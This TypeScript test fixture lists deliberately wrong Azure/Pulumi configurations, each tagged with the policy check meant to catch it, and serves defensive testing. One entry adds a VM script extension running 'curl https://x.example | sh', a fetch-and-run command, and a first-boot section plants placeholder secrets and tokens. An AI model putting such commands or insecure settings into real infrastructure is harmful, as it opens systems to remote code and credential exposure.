/** Mistakes that somebody could make in the committed stacks, each with the policy that must name it. */
import { gzipSync } from "node:zlib";

/** A resource as the engine tells a policy pack of it. */
export interface Made {
  urn: string;
  type: string;
  name: string;
  /** Secrets and unknown values are marked. */
  inputs: Record<string, unknown>;
  protect: boolean;
  /** URN of the parent; empty for the stack's own. */
  parent: string;
  /** URNs of the resources of whose outputs an input is made. */
  madeOf: Record<string, string[]>;
}

export interface Mistake {
  policy: string;
  what: string;
  stack: "dev" | "prod" | "tools";
  /** Name of the resource that becomes a wrong one; or what becomes of all of the stack's. */
  resource?: string;
  change: (made: Made) => void;
  changeAll?: (all: Made[]) => Made[];
}

type Container = Record<string, unknown>;

/** Puts a value at a path such as `rules.0.port`; undefined takes it away. */
export function put(inputs: unknown, path: string, value: unknown): void {
  const steps = path.split(".");
  const last = steps.pop() ?? "";
  const container = steps.reduce<Container>((found, step) => (found[step] ??= {}) as Container, inputs as Container);
  if (value === undefined) delete container[last];
  else container[last] = value;
}

const valueAt = (inputs: unknown, path: string) =>
  path.split(".").reduce<unknown>((found, step) => (found as Container)[step], inputs);

const one = (
  policy: string,
  what: string,
  resource: string,
  change: (inputs: Container, made: Made) => void,
  stack: Mistake["stack"] = "dev",
): Mistake => ({ policy, what, stack, resource, change: (made) => change(made.inputs, made) });

const set = (
  policy: string,
  resource: string,
  path: string,
  value: unknown,
  stack: Mistake["stack"] = "dev",
): Mistake =>
  one(policy, `${path} = ${JSON.stringify(value) ?? "nothing"}`, resource, (inputs) => put(inputs, path, value), stack);

const all = (
  policy: string,
  what: string,
  changeAll: (made: Made[]) => Made[],
  stack: Mistake["stack"] = "dev",
): Mistake => ({ policy, what, stack, change: () => undefined, changeAll });

/** A copy of a resource under another name. */
function copy(all: readonly Made[], name: string, change: Partial<Made> = {}): Made {
  const found = all.find((each) => each.name === name);
  if (!found) throw new Error(`there is no ${name}; there are ${all.map((each) => each.name).join(", ")}`);
  const other = `${name}-2`;
  return { ...structuredClone(found), name: other, urn: found.urn.replace(/::[^:]+$/, `::${other}`), ...change };
}

const with2 =
  (name: string, change: Partial<Made> = {}) =>
  (made: Made[]) => [...made, copy(made, name, change)];
const without = (name: string) => (made: Made[]) => made.filter((each) => each.name !== name);

/** A resource of a type by itself, beside all others. */
const extra = (type: string, inputs: Container = {}): ((made: Made[]) => Made[]) => {
  return (made) => [
    ...made,
    {
      ...{ type, name: "extra", inputs, protect: false, parent: "", madeOf: {} },
      urn: `urn:pulumi:dev::platform::${type}::extra`,
    },
  ];
};

/** A rule that a security group gets besides. */
const allowing = (policy: string, group: string, rule: Container): Mistake =>
  one(policy, `a rule ${JSON.stringify(rule)}`, `network-${group}-nsg`, (inputs) =>
    (inputs["securityRules"] as Container[]).push({
      ...{ name: "mistake", priority: 300, direction: "Inbound", access: "Allow", protocol: "Tcp" },
      ...{ sourcePortRange: "*", destinationAddressPrefix: "*" },
      ...("destinationPortRanges" in rule ? {} : { destinationPortRange: "443" }),
      ...rule,
    }),
  );

/** The last of a security group's inbound rules. */
const denyAll = (inputs: Container) =>
  (inputs["securityRules"] as Container[]).find(
    ({ name, direction }) => name === "deny-all" && direction === "Inbound",
  );

const profile = "virtualMachineProfile";
const os = `${profile}.osProfile`;
const card = `${profile}.networkProfile.networkInterfaceConfigurations.0`;
const extensions = `${profile}.extensionProfile.extensions`;

const cloudConfig = (text: string) => Buffer.from(`#cloud-config\n${text}`).toString("base64");
const file = (content: string) =>
  gzipSync(
    `#cloud-config\nwrite_files:\n- path: /etc/x\n  encoding: b64\n  content: ${Buffer.from(content).toString("base64")}\n`,
  ).toString("base64");

const customData = (what: string, value: string): Mistake =>
  one("custom-data-secrets", what, "front-vmss", (inputs) => put(inputs, `${os}.customData`, value));

export const mistakes: readonly Mistake[] = [
  // What no rule would look at.
  ...[
    "compute:VirtualMachine",
    "network:NetworkInterface",
    "network:SecurityRule",
    "network:PublicIPPrefix",
    "authorization:RoleDefinition",
    "network/v20240501:BastionHost",
    "keyvault:AccessPolicy",
    "storage:Table",
  ].map((type) => all("known-types", type, extra(`azure-native:${type}`))),
  ...[
    "azure:network/publicIp:PublicIp",
    "azure-native_network_v20240301:network:NetworkInterface",
    "azapi:index/resource:Resource",
    "pulumi-nodejs:dynamic:Resource",
    "command:remote:Command",
  ].map((type) => all("known-types", type, extra(type))),

  // Public addresses.
  all(
    "public-address-place",
    "by itself",
    extra("azure-native:network:PublicIPAddress", { sku: { name: "Standard" } }),
  ),
  all(
    "public-address-place",
    "of a tier",
    with2("reverse-proxy-address", {
      urn: "urn:pulumi:dev::platform::platform:components:TierHAG$azure-native:network:PublicIPAddress::front-address",
    }),
  ),
  set("public-address-sku", "reverse-proxy-address", "sku.name", "Basic"),
  set("public-address-sku", "network-nat-address", "publicIPAllocationMethod", "Dynamic"),
  set("public-address-sku", "reverse-proxy-address", "publicIPAddressVersion", "IPv6"),
  one("public-address-sku", "of a versioned module", "reverse-proxy-address", (inputs, made) => {
    made.type = "azure-native:network/v20250101:PublicIPAddress";
    put(inputs, "sku.name", "Basic");
  }),
  set("public-frontend-place", "front-load-balancer-lbi", "frontendIPConfigurations.0.publicIPAddress", { id: "/x" }),
  set("public-frontend-place", "back-load-balancer-lbi", "frontendIPConfigurations.0.publicIPPrefix", { id: "/x" }),
  set("scale-set-no-public-address", "front-vmss", `${card}.ipConfigurations.0.publicIPAddressConfiguration`, {
    name: "public",
  }),
  set("nat-gateway-sku", "network-nat", "sku.name", "Basic"),
  set("public-frontend-place", "reverse-proxy-lbe", "frontendIPConfigurations.0.publicIPPrefix", { id: "/x" }),
  set("nat-gateway-sku", "network-nat", "publicIpAddresses", undefined),
  set("nat-gateway-sku", "network-nat", "publicIpAddresses.1", { id: "/somebody-elses" }),
  set("nat-gateway-sku", "network-nat", "publicIpPrefixes", [{ id: "/x" }]),
  all("public-address-count", "a second one of the reverse proxy", with2("reverse-proxy-address")),
  all("public-address-count", "a second one of the network", with2("network-nat-address"), "prod"),
  all("public-address-used", "no load balancer has it", (made) =>
    made.map((each) => (each.name === "reverse-proxy-lbe" ? { ...each, madeOf: {} } : each)),
  ),

  // What may enter.
  allowing("inbound-any", "front", { sourceAddressPrefix: "*" }),
  allowing("inbound-any", "reverse-proxy", { sourceAddressPrefix: "0.0.0.0/0" }),
  allowing("inbound-any", "data", { sourceAddressPrefixes: ["0.0.0.0/1", "128.0.0.0/1"] }),
  allowing("inbound-any", "reverse-proxy", { sourceAddressPrefix: "::/0" }),
  allowing("inbound-internet", "front", { sourceAddressPrefix: "Internet" }),
  allowing("inbound-internet", "data", { sourceAddressPrefix: "198.51.100.7/32", destinationPortRange: "5432" }),
  allowing("inbound-internet", "back", { sourceAddressPrefixes: ["10.20.0.0/24", "203.0.113.9"] }),
  allowing("inbound-internet", "balancer", { sourceAddressPrefix: "AzureCloud" }),
  allowing("inbound-internet", "front", { sourceAddressPrefix: "Internet", direction: "inbound", access: "allow" }),
  allowing("inbound-internet", "data", { sourceApplicationSecurityGroups: [{ id: "/somebody-elses" }] }),
  allowing("inbound-ports", "reverse-proxy", { sourceAddressPrefix: "Internet", destinationPortRange: "8080" }),
  allowing("inbound-ports", "reverse-proxy", { sourceAddressPrefix: "Internet", protocol: "Udp" }),
  allowing("inbound-ports", "reverse-proxy", { sourceAddressPrefix: "198.51.100.0/24", destinationPortRange: "*" }),
  allowing("inbound-ports", "reverse-proxy", { sourceAddressPrefix: "Internet", destinationPortRange: "80-443" }),
  allowing("inbound-management", "reverse-proxy", { sourceAddressPrefix: "Internet", destinationPortRange: "22" }),
  allowing("inbound-management", "front", { sourceAddressPrefix: "*", destinationPortRange: "20-30" }),
  allowing("inbound-management", "data", { sourceAddressPrefix: "Internet", destinationPortRanges: ["443", "3389"] }),
  allowing("inbound-segments", "data", { sourceAddressPrefix: "VirtualNetwork" }),
  allowing("inbound-segments", "back", { sourceAddressPrefix: "10.20.0.0/16" }),
  allowing("inbound-segments", "back", { sourceAddressPrefix: "fd00::/8" }),
  allowing("inbound-segments", "data", { sourceAddressPrefix: "10.0.0.0/8", destinationPortRange: "22" }),
  allowing("inbound-segments", "reverse-proxy", { sourceAddressPrefix: "10.0.0.0/8" }),
  one("inbound-deny-all", "no last rule", "network-data-nsg", (inputs) => {
    inputs["securityRules"] = (inputs["securityRules"] as Container[]).filter(({ access }) => access !== "Deny");
  }),
  one("inbound-deny-all", "no probes", "network-data-nsg", (inputs) => {
    inputs["securityRules"] = (inputs["securityRules"] as Container[]).filter(
      ({ sourceAddressPrefix }) => sourceAddressPrefix !== "AzureLoadBalancer",
    );
  }),
  ...[
    { destinationAddressPrefix: "10.20.4.4" },
    { sourcePortRange: "1024-65535" },
    { sourceAddressPrefix: undefined, sourceApplicationSecurityGroups: [{ id: "/x" }] },
    { destinationPortRange: undefined, destinationPortRanges: ["0-1023"] },
    { protocol: "Tcp" },
    { priority: 3000 },
  ].map((change) =>
    one("inbound-deny-all", `a last rule of ${JSON.stringify(change)}`, "network-data-nsg", (inputs) => {
      const last = denyAll(inputs);
      Object.entries(change).forEach(([field, value]) => put(last, field, value));
    }),
  ),
  one("inbound-deny-all", "all is denied before probes are let in", "network-data-nsg", (inputs) => {
    (inputs["securityRules"] as Container[]).push({ ...denyAll(inputs), name: "deny-early", priority: 200 });
  }),
  all("security-group-used", "a group of nothing", with2("network-data-nsg")),
  all("internet-subnet", "a tier gets the group of the reverse proxy", (made) => {
    const group = made.find(({ name }) => name === "network-reverse-proxy-nsg")!;
    return made.map((each) =>
      each.name === "network-front-subnet"
        ? { ...each, madeOf: { ...each.madeOf, networkSecurityGroup: [group.urn] } }
        : each,
    );
  }),
  all("internet-subnet", "a tier stands in the reverse proxy's subnet", (made) => {
    const subnet = made.find(({ name }) => name === "network-reverse-proxy-subnet")!;
    return made.map((each) =>
      each.name === "data-vmss" ? { ...each, madeOf: { ...each.madeOf, virtualMachineProfile: [subnet.urn] } } : each,
    );
  }),

  ...[
    ["back-vmss", "virtualMachineProfile"],
    ["data-vmss", "identity"],
    ["vault-back-databaseLogin", "principalId"],
    ["network-data-subnet", "networkSecurityGroup"],
    ["network-front-subnet", "natGateway"],
    ["network-nat", "publicIpAddresses"],
    ["reverse-proxy-lbe", "frontendIPConfigurations"],
    ["vault-kv", "properties"],
    ["storage-st", "networkRuleSet"],
  ].map(([resource, input = ""]) =>
    all("own-resources", `${resource} with somebody else's ${input}`, (made) =>
      made.map((each) => (each.name === resource ? { ...each, madeOf: { ...each.madeOf, [input]: [] } } : each)),
    ),
  ),
  ...[
    ["vault-kv", "properties.networkAcls.virtualNetworkRules", { id: "/somebody-elses" }] as const,
    ["storage-st", "networkRuleSet.virtualNetworkRules", { virtualNetworkResourceId: "/somebody-elses" }] as const,
    ["front-load-balancer-lbi", "frontendIPConfigurations", { subnet: { id: "/somebody-elses" } }] as const,
  ].map(([resource, list, item]) =>
    one("own-resources", `somebody else's beside its own in ${list}`, resource, (inputs) =>
      (valueAt(inputs, list) as Container[]).push(item),
    ),
  ),

  // The network.
  set("subnet-security-group", "network-front-subnet", "networkSecurityGroup", undefined),
  set("subnet-security-group", "network-data-subnet", "networkSecurityGroup", {}, "prod"),
  set("network-subnets", "network-vnet", "subnets", [{ name: "snet-open", addressPrefix: "10.20.9.0/24" }]),
  set("network-subnets", "network-vnet", "virtualNetworkPeerings", [{ name: "other" }]),
  set("subnet-private", "network-back-subnet", "defaultOutboundAccess", true),
  set("subnet-private", "network-back-subnet", "defaultOutboundAccess", undefined),
  set("subnet-private", "network-data-subnet", "natGateway", undefined),
  set("subnet-private", "network-back-subnet", "routeTable", { id: "/somebody-elses" }),
  set("subnet-endpoint-policies", "network-data-subnet", "privateEndpointNetworkPolicies", "Disabled"),
  set("network-name-servers", "network-vnet", "dhcpOptions", { dnsServers: ["10.20.1.4"] }),

  // Peerings.
  all(
    "peering-place",
    "by itself",
    extra("azure-native:network:VirtualNetworkPeering", {
      ...{ virtualNetworkPeeringName: "peer-x", virtualNetworkName: "vnet-platform-dev" },
      remoteVirtualNetwork: {
        id: "/subscriptions/0000/resourceGroups/rg-x/providers/Microsoft.Network/virtualNetworks/vnet-x",
      },
    }),
  ),
  set(
    "peering-place",
    "peering-tools-here",
    "remoteVirtualNetwork.id",
    "/subscriptions/0001/resourceGroups/theirs/providers/Microsoft.Network/virtualNetworks/hub",
    "prod",
  ),
  set("peering-place", "peering-tools-there", "virtualNetworkName", "hub", "prod"),
  set("peering-traffic", "peering-tools-here", "allowForwardedTraffic", true, "prod"),
  set("peering-traffic", "peering-dev-there", "allowGatewayTransit", true, "tools"),
  set("peering-traffic", "peering-tools-there", "useRemoteGateways", true, "prod"),
  set("peering-traffic", "peering-tools-there", "allowVirtualNetworkAccess", false, "prod"),
  all("peering-halves", "the half there is missing", without("peering-tools-there"), "prod"),
  all("peering-halves", "the half here is missing", without("peering-dev-here"), "tools"),
  set("dns-registration", "peering-tools-there-link", "registrationEnabled", true, "prod"),
  set("names", "peering-tools-here", "virtualNetworkPeeringName", "to-tools", "prod"),

  // Load balancers.
  set("load-balancer-sku", "front-load-balancer-lbi", "sku.name", "Basic"),
  set("load-balancer-sku", "reverse-proxy-lbe", "sku", undefined),
  set("load-balancer-probe", "front-load-balancer-lbi", "loadBalancingRules.0.probe", undefined),
  set("load-balancer-probe", "front-load-balancer-lbi", "probes.0.requestPath", "/"),
  set("load-balancer-probe", "reverse-proxy-lbe", "probes.0", { name: "health", protocol: "Tcp", port: 443 }),
  set("load-balancer-no-nat", "front-load-balancer-lbi", "inboundNatRules", [{ name: "ssh" }]),
  set("load-balancer-public-ports", "reverse-proxy-lbe", "loadBalancingRules.0.frontendPort", 8080),
  set("load-balancer-public-ports", "reverse-proxy-lbe", "loadBalancingRules.0.protocol", "Udp"),
  set("load-balancer-public-ports", "reverse-proxy-lbe", "loadBalancingRules.1.disableOutboundSnat", false),
  set("load-balancer-public-ports", "reverse-proxy-lbe", "outboundRules", [{ name: "out" }]),
  set("load-balancer-internal-ports", "reverse-proxy-lbi", "loadBalancingRules.0.frontendPort", 443),
  set("load-balancer-internal-ports", "reverse-proxy-lbi", "loadBalancingRules.1.protocol", "All", "tools"),

  // Machines.
  set("scale-set-ssh-keys", "front-vmss", `${os}.linuxConfiguration.disablePasswordAuthentication`, false),
  set("scale-set-ssh-keys", "data-vmss", `${os}.adminPassword`, "Sesame-open-1"),
  set("scale-set-ssh-keys", "data-vmss", `${os}.linuxConfiguration.ssh.publicKeys`, []),
  set("scale-set-ssh-keys", "data-vmss", `${os}.linuxConfiguration.ssh.publicKeys.0.keyData`, "ssh-dss AAAAB3"),
  set("scale-set-ssh-keys", "back-vmss", `${os}.windowsConfiguration`, { provisionVMAgent: true }),
  set("scale-set-health", "front-vmss", extensions, []),
  set("scale-set-health", "back-vmss", `${extensions}.0.settings.protocol`, "tcp"),
  set("scale-set-health", "data-vmss", `${extensions}.0.settings.port`, undefined),
  set("scale-set-health", "front-vmss", `${extensions}.0.publisher`, "Somebody"),
  set("scale-set-extensions", "data-vmss", `${extensions}.0.publisher`, "Somebody"),
  set("scale-set-health", "reverse-proxy-machines-vmss", `${profile}.extensionProfile`, undefined),
  set("scale-set-health", "front-vmss", `${extensions}.0.settings.requestPath`, undefined),
  set("scale-set-repair", "front-vmss", "automaticRepairsPolicy.enabled", false),
  set("scale-set-repair", "gitlab-vmss", "automaticRepairsPolicy", undefined, "tools"),
  set("scale-set-repair", "front-vmss", "automaticRepairsPolicy.gracePeriod", "PT5M"),
  set("scale-set-repair", "back-vmss", "automaticRepairsPolicy.repairAction", "None"),
  one(
    "scale-set-extensions",
    "a script",
    "runner-vmss",
    (inputs) =>
      (valueAt(inputs, extensions) as Container[]).push({
        ...{ name: "script", publisher: "Microsoft.Azure.Extensions", type: "CustomScript" },
        settings: { commandToExecute: "curl https://x.example | sh" },
      }),
    "tools",
  ),
  set("scale-set-extensions", "back-vmss", `${profile}.applicationProfile`, {
    galleryApplications: [{ packageReferenceId: "/somebody-elses" }],
  }),
  set("scale-set-identity", "front-vmss", "identity.type", "SystemAssigned, UserAssigned"),
  set("scale-set-identity", "data-vmss", "identity.userAssignedIdentities", ["/a", "/b"]),
  set("scale-set-identity", "data-vmss", "identity", undefined),
  set("scale-set-identity", "back-vmss", "identity.userAssignedIdentities", undefined),
  set("scale-set-trusted-launch", "front-vmss", `${profile}.securityProfile.securityType`, "Standard", "prod"),
  set(
    "scale-set-trusted-launch",
    "data-vmss",
    `${profile}.securityProfile.uefiSettings.secureBootEnabled`,
    false,
    "prod",
  ),
  set("scale-set-trusted-launch", "back-vmss", `${profile}.securityProfile.uefiSettings.vTpmEnabled`, false, "prod"),
  set("scale-set-trusted-launch", "gitlab-vmss", `${profile}.securityProfile`, undefined, "tools"),
  set("scale-set-image", "front-vmss", `${profile}.storageProfile.imageReference.publisher`, "Somebody"),
  set("scale-set-image", "front-vmss", `${profile}.storageProfile.imageReference.version`, "latest"),
  set("scale-set-image", "data-vmss", `${profile}.storageProfile.imageReference.version`, "Latest"),
  set("scale-set-image", "back-vmss", `${profile}.storageProfile.imageReference.version`, undefined),
  set("scale-set-image", "back-vmss", `${profile}.storageProfile.imageReference.sku`, "13"),
  set("scale-set-image", "front-vmss", `${profile}.storageProfile.imageReference`, { communityGalleryImageId: "/x" }),
  ...["id", "communityGalleryImageId", "sharedGalleryImageId"].map((image) =>
    set("scale-set-image", "data-vmss", `${profile}.storageProfile.imageReference.${image}`, "/somebody-elses"),
  ),
  set("scale-set-disks", "data-vmss", `${profile}.storageProfile.osDisk.managedDisk`, undefined),
  set("scale-set-disks", "data-vmss", `${profile}.storageProfile.osDisk.deleteOption`, "Detach"),
  set("scale-set-disks", "back-vmss", `${profile}.storageProfile.osDisk.image`, { uri: "https://x.example/a.vhd" }),
  set("scale-set-disks", "back-vmss", `${profile}.storageProfile.osDisk.vhdContainers`, ["https://x.example/a"]),
  set("scale-set-disks", "data-vmss", `${profile}.storageProfile.dataDisks`, [
    { lun: 0, createOption: "Empty", diskSizeGB: 64, managedDisk: { storageAccountType: "Premium_LRS" } },
  ]),
  set("scale-set-forwarding", "front-vmss", `${card}.enableIPForwarding`, true),
  set("scale-set-forwarding", "front-vmss", `${card}.networkSecurityGroup`, { id: "/open" }),
  set("scale-set-forwarding", "back-vmss", `${card}.dnsSettings`, { dnsServers: ["198.51.100.53"] }),
  set("scale-set-subnet", "front-vmss", `${card}.ipConfigurations.0.subnet`, undefined),
  one("scale-set-subnet", "a second address", "back-vmss", (inputs) => {
    const configurations = valueAt(inputs, `${card}.ipConfigurations`) as Container[];
    configurations.push({ ...configurations[0], name: "second", primary: false });
  }),
  set("scale-set-orchestration", "front-vmss", "orchestrationMode", "Uniform"),
  set("scale-set-orchestration", "back-vmss", "upgradePolicy.mode", "Automatic"),
  set("scale-set-orchestration", "data-vmss", "singlePlacementGroup", true),
  set("scale-set-farewell", "front-vmss", `${profile}.scheduledEventsProfile`, undefined),
  set("scale-set-diagnostics", "front-vmss", `${profile}.diagnosticsProfile.bootDiagnostics.enabled`, false),
  set(
    "scale-set-diagnostics",
    "back-vmss",
    `${profile}.diagnosticsProfile.bootDiagnostics.storageUri`,
    "https://somebody-else.blob.core.windows.net",
  ),
  set("scale-set-size", "front-vmss", "sku.name", "Basic_A1"),
  set("scale-set-size", "data-vmss", "sku.name", "Standard_D2_v2_Promo"),
  set("scale-set-size", "back-vmss", "sku.tier", "Basic"),
  set("scale-set-size", "front-vmss", `${profile}.priority`, "Spot"),

  // First-boot data.
  customData("a private key", cloudConfig("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=")),
  customData("a password in a file", file("database:\n  password: korrekt-horse-9\n")),
  customData(
    "a connection string",
    file("DefaultEndpointsProtocol=https;AccountKey=Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Cg=="),
  ),
  customData("a password in a short file", file("PASSWORD=hunter-2-hunter")),
  customData("a signed address of a blob", cloudConfig(`# https://x.example/a?sv=2024&sig=${"aB3%2F".repeat(7)}`)),
  customData("a key of AWS", cloudConfig("# AKIAIOSFODNN7EXAMPLE")),
  customData(
    "a signed token",
    cloudConfig(`# ${["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0In0", "c2lnbmF0dXJl"].join(".")}`),
  ),
  customData("a token of GitHub", file(`github_pat_${"1A2b3C4d".repeat(6)}`)),
  customData("a token of GitLab", file("GITLAB_TOKEN=glpat-abcdefghij0123456789\n")),
  customData("a login in an address", file("DATABASE_URL=postgres://platform:s3cr3t-value@10.20.4.254/platform\n")),
  customData("a secret of the stack", file("export PGX='a test\\'s password'\n# a test's password\n")),
  one("custom-data-secrets", "a secret in an extension's open settings", "data-vmss", (inputs) =>
    put(inputs, `${extensions}.0.settings.token`, "gldt-abcdefghij0123456789"),
  ),
  one("custom-data-secrets", "the hash of a password", "front-vmss", (inputs) =>
    put(
      inputs,
      `${profile}.userData`,
      cloudConfig("users:\n- name: x\n  hashed: $6$rounds=4096$abcdefgh$0123456789abcdef"),
    ),
  ),

  // The vault.
  set("vault-purge-protection", "vault-kv", "properties.enablePurgeProtection", undefined),
  set("vault-purge-protection", "vault-kv", "properties.enableSoftDelete", false),
  set("vault-purge-protection", "vault-kv", "properties.softDeleteRetentionInDays", 7),
  set("vault-firewall", "vault-kv", "properties.networkAcls.defaultAction", "Allow"),
  set("vault-firewall", "vault-kv", "properties.networkAcls", undefined, "prod"),
  set("vault-firewall", "vault-kv", "properties.networkAcls.ipRules", [{ value: "0.0.0.0/0" }]),
  set("vault-firewall", "vault-kv", "properties.networkAcls.bypass", "None"),
  set("vault-rbac", "vault-kv", "properties.enableRbacAuthorization", false),
  set("vault-rbac", "vault-kv", "properties.accessPolicies", [{ objectId: "x", permissions: { secrets: ["all"] } }]),
  set("vault-uses", "vault-kv", "properties.enabledForDeployment", true),
  set("secret-enabled", "vault-databaseLogin", "properties.attributes", { enabled: false }),

  // Storage.
  set("storage-https", "storage-st", "enableHttpsTrafficOnly", false),
  set("storage-tls", "storage-st", "minimumTlsVersion", "TLS1_0"),
  set("storage-tls", "storage-st", "minimumTlsVersion", undefined),
  set("storage-shared-key", "storage-st", "allowSharedKeyAccess", true),
  set("storage-shared-key", "storage-st", "isSftpEnabled", true),
  set("storage-shared-key", "storage-st", "isLocalUserEnabled", true),
  set("storage-shared-key", "storage-st", "enableNfsV3", true),
  set("storage-no-public-blobs", "storage-st", "allowBlobPublicAccess", true),
  set("storage-no-public-blobs", "storage-backups", "publicAccess", "Blob"),
  set("storage-firewall", "storage-st", "networkRuleSet.defaultAction", "Allow"),
  set("storage-firewall", "storage-st", "networkRuleSet.bypass", "None"),
  set("storage-firewall", "storage-st", "networkRuleSet.ipRules", [{ iPAddressOrRange: "0.0.0.0/1" }]),
  set("storage-firewall", "storage-st", "networkRuleSet.resourceAccessRules", [
    { tenantId: "somebody-elses", resourceId: "/subscriptions/0001/resourceGroups/*/providers/Microsoft.Synapse/x/*" },
  ]),
  set("storage-tenant", "storage-st", "allowCrossTenantReplication", true),
  set("storage-tenant", "storage-st", "allowedCopyScope", "Everywhere"),
  set("storage-kind", "storage-st", "kind", "BlobStorage"),
  set("storage-kind", "storage-st", "sku.name", "Premium_ZRS"),
  set("storage-soft-delete", "storage-history", "isVersioningEnabled", false),
  set("storage-soft-delete", "storage-history", "deleteRetentionPolicy.enabled", false),
  set("storage-soft-delete", "storage-history", "deleteRetentionPolicy.allowPermanentDelete", true),
  set("storage-soft-delete", "storage-history", "deleteRetentionPolicy.days", undefined),
  set("storage-soft-delete", "storage-history", "containerDeleteRetentionPolicy.days", 1),
  set("storage-soft-delete", "storage-history", "cors", { corsRules: [{ allowedOrigins: ["*"] }] }),
  set("storage-lifecycle", "storage-lifecycle", "policy.rules.0.definition.actions.baseBlob", {
    delete: { daysAfterModificationGreaterThan: 365 },
  }),
  all("storage-history", "no history", without("storage-history")),
  all("storage-history", "no end of versions", without("storage-lifecycle")),

  // Rights.
  ...[
    ["Owner", "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"],
    ["Contributor", "b24988ac-6180-42a0-ab88-20f7382dd24c"],
    ["User Access Administrator", "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9"],
    ["Key Vault Administrator", "00482a5a-887f-4fb3-b363-3b7fe8e74483"],
  ].map(([role, id]) =>
    one("role-least", role ?? "", "vault-back-databaseLogin", (inputs) =>
      put(inputs, "roleDefinitionId", `/subscriptions/0000/providers/Microsoft.Authorization/roleDefinitions/${id}`),
    ),
  ),
  ...[
    ["Key Vault Secrets Officer", "b86a8fe4-44ce-4948-aee5-eccb2c155cd7"],
    ["Storage Blob Data Contributor", "ba92f5b4-2d11-453d-a403-e96b0029c9fe"],
    ["DNS Zone Contributor", "befefa01-2a29-4197-83a8-272ff33ce314"],
  ].flatMap(([role, id]) =>
    ["vault-back-databaseLogin", "storage-back-artifacts"].map((name) =>
      one("role-least", `${role ?? ""} for what is no certificate and no backup`, name, (inputs) =>
        put(
          inputs,
          "roleDefinitionId",
          `/subscriptions/0000/providers/Microsoft.Authorization/roleDefinitions/${id ?? ""}`,
        ),
      ),
    ),
  ),
  set("role-least", "vault-back-databaseLogin", "roleDefinitionId", "constructor"),
  set("role-scope", "vault-back-databaseLogin", "scope", "/subscriptions/0000"),
  set("role-scope", "vault-back-databaseLogin", "scope", "/subscriptions/0000/resourceGroups/rg-platform-dev"),
  set("role-scope", "vault-data-databaseLogin", "scope", "/x/providers/Microsoft.KeyVault/vaults/kv", "prod"),
  set("role-principal", "vault-data-databaseLogin", "principalType", "User"),

  // Names.
  set("dns-public-address", "public-dns-www", "aRecords", [{ ipv4Address: "10.20.0.4" }]),
  set("dns-private-address", "private-dns-front", "aRecords", [{ ipv4Address: "198.51.100.9" }]),
  set("dns-time-to-live", "private-dns-front", "ttl", 86_400),
  set("dns-registration", "private-dns-link", "registrationEnabled", true),
  set("dns-zone-kind", "public-dns-zone", "zoneType", "Private"),

  // Zones, in production.
  set("scale-set-zones", "front-vmss", "zones", ["1"], "prod"),
  set("scale-set-zones", "data-vmss", "zones", undefined, "prod"),
  set("public-address-zones", "reverse-proxy-address", "zones", undefined, "prod"),
  set("load-balancer-zones", "data-load-balancer-lbi", "frontendIPConfigurations.0.zones", undefined, "prod"),
  set("load-balancer-zones", "reverse-proxy-lbi", "frontendIPConfigurations.0.zones", undefined, "prod"),
  set("zone-balance", "front-vmss", "zoneBalance", true, "prod"),
  set("storage-replication", "storage-st", "sku.name", "Standard_LRS", "prod"),
  set("storage-replication", "storage-st", "sku.name", "Standard_GRS", "prod"),
  set("autoscale-minimum", "front-autoscale", "profiles.0.capacity.minimum", "1", "prod"),
  set("autoscale-enabled", "front-autoscale", "enabled", false, "prod"),
  set("autoscale-enabled", "front-autoscale", "targetResourceUri", undefined, "prod"),
  set("autoscale-enabled", "front-autoscale", "predictiveAutoscalePolicy", { scaleMode: "Enabled" }, "prod"),
  {
    policy: "protection",
    what: "no protection",
    stack: "prod",
    resource: "vault-kv",
    change: (made) => void (made.protect = false),
  },

  // Tags and names.
  set("tags", "network-vnet", "tags", undefined),
  set("tags", "front-vmss", "tags.tier", undefined),
  set("tags", "vault-kv", "tags.managed-by", "hand"),
  set("tags", "private-dns-front", "metadata", {}),
  set("one-environment", "storage-st", "tags.environment", "production"),
  set("one-environment", "front-vmss", "tags.environment", "development", "prod"),
  set("names", "front-vmss", "vmScaleSetName", "frontend"),
  set("names", "network-vnet", "virtualNetworkName", undefined),
  set("computer-names", "front-vmss", `${os}.computerNamePrefix`, "x".repeat(60)),
];
